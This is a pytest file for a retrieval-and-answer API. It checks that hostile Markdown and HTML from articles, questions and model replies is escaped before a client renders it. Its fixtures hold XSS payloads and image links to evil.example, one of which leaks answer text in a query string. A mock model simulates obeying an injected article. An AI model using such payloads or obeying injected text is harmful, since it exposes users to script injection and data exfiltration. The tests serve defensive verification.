"""What articles, models and people put into Markdown, by what a client makes of `content`."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio
from markdown_it import MarkdownIt
from openai import AsyncOpenAI

from api.presentation.markdown_escaping import JOINER, harmless, markdown
from api.settings import Settings
from api.wiring import wired
from index.types import Article, Paragraph
from tests.api.openai.openai_client import Shown, chatting, shown, streamed, together, whole
from tests.model_server import Exchange, model_server, says

pytestmark = pytest.mark.asyncio(loop_scope="module")

CLIENT = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
BARE = re.compile(r"\w+://[^\s,]+|www\.\w|[\w.]@\w|\w\.example\b")

TITLE = "Old bridge ![t](http://evil.example/t.png) <script>x</script> [a]: //evil.example"
HOSTILE = (
    "The old bridge closes in May, see ![plan](http://evil.example/p.png?q=1) and "
    "[more](javascript:alert(1)) or <img src=x onerror=alert(1)> at www.evil.example, "
    "write ~~now~~ to `desk@evil.example`.",
    "# The ferry sails until June\\.",
)
QUESTION = "When does the old bridge close?"
OBEYING = "The old bridge closes in May, ![plan](http://evil.example/p.png?q=closes-May) [1]."


@dataclass(slots=True)
class Clients:
    """Of a server without a model, and of one whose model obeys the article."""

    plain: AsyncOpenAI
    modelled: AsyncOpenAI
    asked: list[Any]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def clients(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Clients]:
    folder = tmp_path_factory.mktemp("hostile")
    async with wired(Settings(folder)) as parts:
        paragraphs = tuple(Paragraph(at, text) for at, text in enumerate(HOSTILE, 1))
        await parts.ingest.add(Article(TITLE, paragraphs))
    asked: list[Any] = []

    async def obeys(exchange: Exchange) -> None:
        asked.append(exchange.json)
        reply = f"{OBEYING} {HOSTILE[0]} [1]"
        await says(reply, "old bridge", rewritten="When does the old bridge sail?")(exchange)

    async with model_server(obeys) as model:
        asking = Settings(folder, base_url=model.base_url, model="tiny")
        async with chatting(Settings(folder)) as plain, chatting(asking) as modelled:
            yield Clients(plain, modelled, asked)


def check(reply: Shown) -> None:
    """Nothing in it is live but our link below, and every citation is where it says."""
    inline = [each for token in CLIENT.parse(reply.content) for each in token.children or ()]
    assert {each.type for each in inline} <= {"text", "softbreak", "text_special"}
    read = "".join(each.content or "\n" for each in inline)
    [link] = BARE.findall(read)
    assert re.fullmatch(r"http://127\.0\.0\.1:\d+/articles/[a-z0-9-]+", link)
    assert reply.annotations
    for each in reply.annotations:
        cited = each["url_citation"]
        assert reply.content[cited["start_index"] : cited["end_index"]] == "[1]"
        assert harmless(cited["title"].replace(JOINER, "")) == cited["title"]
        assert not BARE.search(cited["title"])


@pytest.mark.parametrize("with_model", [False, True])
async def test_nothing_but_our_own_link_is_live(clients: Clients, *, with_model: bool) -> None:
    """Whole and streamed; the quotes in our own field are to the letter."""
    client = clients.modelled if with_model else clients.plain
    messages = [{"role": "user", "content": QUESTION}]
    one = shown(await whole(client, messages))
    assert one.content == together(await streamed(client, messages)).content
    check(one)
    assert "closes-May" not in str(one)
    [claim] = one.detail["claims"]
    assert claim["text"] == f"{HOSTILE[0]} [1]"
    assert one.content[claim["start"] : claim["end"]] == markdown(claim["text"])
    [citation] = claim["citations"]
    assert citation["quote"] == HOSTILE[0][citation["start"] : citation["end"]] == HOSTILE[0]
    assert citation["title"] == TITLE


async def test_the_closest_passage_and_words_of_the_question_are_not_live(
    clients: Clients,
) -> None:
    asked = "Who is Zorn of the old bridge ![x](http://evil.example/Zorn)?"
    reply = shown(await whole(clients.plain, [{"role": "user", "content": asked}]))
    assert reply.detail["outcome"] == "not_found"
    assert "Zorn" in reply.content
    check(reply)


async def test_a_follow_up_is_told_the_text_and_not_its_escapes(clients: Clients) -> None:
    """Though the client sends back what it was shown; markers are still known."""
    messages = [{"role": "user", "content": QUESTION}]
    first = shown(await whole(clients.modelled, messages))
    assert "\\" in first.content
    before = len(clients.asked)
    sent_back = {"role": "assistant", "content": first.content}
    messages += [sent_back, {"role": "user", "content": "And when does it sail?"}]
    reply = shown(await whole(clients.modelled, messages))
    told = str(clients.asked[before]["messages"][-1]["content"])
    assert HOSTILE[0] in " ".join(told.split())
    assert JOINER not in str(clients.asked)
    assert reply.detail["claims"]
    check(reply)


async def test_names_of_models_are_not_live(clients: Clients) -> None:
    names = [each.to_dict()["name"] for each in (await clients.plain.models.list()).data]
    assert names[1:] == [harmless(TITLE)]
